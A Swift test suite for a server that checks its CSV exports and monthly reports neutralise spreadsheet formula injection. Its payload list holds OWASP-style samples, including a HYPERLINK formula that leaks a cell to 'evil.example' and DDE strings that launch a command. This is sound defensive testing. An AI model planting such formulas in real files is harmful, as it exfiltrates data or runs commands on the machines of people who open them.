import Foundation
import HTTPTypes
import Hummingbird
import HummingbirdTesting
import NIOCore
import TallyAnalytics
import TallyServer
import TallyStore
import TallyText
import Testing

/// Issue 11 item 8: the CSV files people open in a spreadsheet carry no formula from a writer's strings.
@Suite("CSV formula injection: people-facing CSVs are neutralised")
struct CSVInjectionTests {
    /// OWASP's examples and the trigger characters; tab and CR only in feature tags (ids refuse control characters).
    static let payloads = [
        #"=HYPERLINK("http://evil.example/?leak="&A1,"click")"#, "=cmd|' /C calc'!A0", "@SUM(A1)", "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1",
    ]

    /// The cell as the neutralising writer must write it: a leading quote, quoted, inner quotes doubled.
    static func neutralised(_ p: String) -> String { "\"'" + p.replacingOccurrences(of: "\"", with: "\"\"") + "\"" }

    static func fixture() throws -> ServerFixture {
        let f = try ServerFixture(seed: false)
        var records: [CostRecord] = []
        for (k, p) in payloads.enumerated() {
            let user = p.hasPrefix("\t") || p.hasPrefix("\r") ? "plain-\(k)" : p
            records.append(CostRecord(tenantID: ServerFixture.tenantA, projectID: "p", environment: "prod", userID: user, featureTag: p,
                                      requestID: "inj-\(k)", model: "m", inputTokens: 1, outputTokens: 1,
                                      costNanos: 100 * Money.nanosPerCent, createdAtMillis: ms("2025-05-02T10:00:00Z")))
        }
        _ = try f.store.append(RecordBatch(records))
        return f
    }

    static func expectNeutralised(_ text: String, _ context: String) {
        for p in payloads {
            #expect(text.contains(neutralised(p)), "\(context): \(p.debugDescription) is not neutralised")
            // No cell starts with the payload: not after a separator, not as a quoted cell.
            for start in [",", "\n", ",\"", "\n\""] {
                #expect(!text.contains(start + p), "\(context): a cell starts with \(p.debugDescription)")
            }
        }
    }

    @Test("a cost export CSV grouped by feature tag and user id neutralises every payload")
    func costExport() async throws {
        let f = try Self.fixture()
        try await f.withRouter { client in
            let status = try await ExportTests.export(f, client, key: f.readerA, [
                "kind": "cost", "format": "csv", "from": "2025-05-01", "to": "2025-05-04", "group_by": ["feature_tag", "user_id"],
            ])
            let csv = String(buffer: try await client.execute(uri: try #require(status.string("download_url")), method: .get,
                                                              headers: auth(f.readerA)).body)
            #expect(csv.hasPrefix("feature_tag,user_id,records,"))
            Self.expectNeutralised(csv, "cost export")
        }
    }

    @Test("the monthly report CSV neutralises every payload in its breakdowns")
    func monthlyReport() async throws {
        let f = try Self.fixture()
        try await f.withRouter { client in
            let r = try await client.execute(uri: "/api/v1/analytics/reports/monthly?month=2025-05&format=csv", method: .get,
                                             headers: auth(f.readerA))
            #expect(r.status == .ok)
            let csv = String(buffer: r.body)
            Self.expectNeutralised(csv, "monthly report")
            // Our own numbers stay numbers, negative ones included.
            #expect(csv.contains("\ntotals,2025-05,"))
        }
    }

    @Test("the neutralising writer: triggers prefixed and quoted, numbers and plain text as they are", arguments: [
        ("=1+1", "\"'=1+1\""), ("+1", "\"'+1\""), ("-x", "\"'-x\""), ("@x", "\"'@x\""), ("\tx", "\"'\tx\""), ("\rx", "\"'\rx\""),
        ("=\"a\",b", "\"'=\"\"a\"\",b\""), ("-12.5", "-12.5"), ("-3", "-3"), ("12", "12"), ("a,b", "\"a,b\""), ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("plain", "plain"), ("", ""), ("a=b", "a=b"), ("-", "\"'-\""), ("-1e5", "\"'-1e5\""),
    ])
    func writer(input: String, expected: String) {
        #expect(SpreadsheetCSV.cell(input) == expected)
    }
}
